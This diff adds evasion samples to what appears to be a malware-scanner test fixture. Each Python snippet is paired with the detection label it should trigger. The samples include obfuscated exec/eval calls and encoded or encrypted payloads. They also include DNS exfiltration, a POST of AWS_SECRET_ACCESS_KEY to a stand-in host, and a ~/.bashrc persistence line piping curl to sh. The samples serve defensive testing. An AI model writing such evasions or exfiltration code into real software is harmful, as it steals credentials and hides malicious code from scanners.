@@ -370,6 +370,34 @@ EVASIONS = {
         "mal.credential-exfil",
     ),
     "ngrok": ("URL = 'https://3f2a-198-51-100-7.ngrok-free.app/upload'", "mal.exfil-endpoint"),
+    "vars-builtins-exec": ("vars(__builtins__)['exec']('print(1)')", "mal.reflective-call"),
+    "escaped-eval-name": ("globals()['\\x65\\x76\\x61\\x6c']('1')", "mal.reflective-call"),
+    "encoded-getattr": (
+        "import builtins, base64\ngetattr(builtins, base64.b64decode('ZXhlYw==').decode())('1')",
+        "mal.reflective-call",
+    ),
+    "hex-escaped-payload": (
+        "exec('\\x70\\x72\\x69\\x6e\\x74\\x28\\x31\\x29')",
+        "mal.decode-exec",
+    ),
+    "fernet": (
+        "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'gAAAAABl'))",
+        "mal.decode-exec",
+    ),
+    "string-code": ("exec('import os; os.system(\\'id\\')')", "mal.exec-string"),
+    "dns-hostname": (
+        "import socket\nsocket.gethostbyname(socket.gethostname() + '.x.dnslog-collector.net')",
+        "mal.dns-exfil",
+    ),
+    "aws-secret-post": (
+        "import os, requests\n"
+        "requests.post('https://c.example.net', data=os.environ['AWS_SECRET_ACCESS_KEY'])",
+        "mal.credential-exfil",
+    ),
+    "bashrc-at-import": (
+        "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('curl x.example | sh')",
+        "mal.persistence",
+    ),
 }
 
 
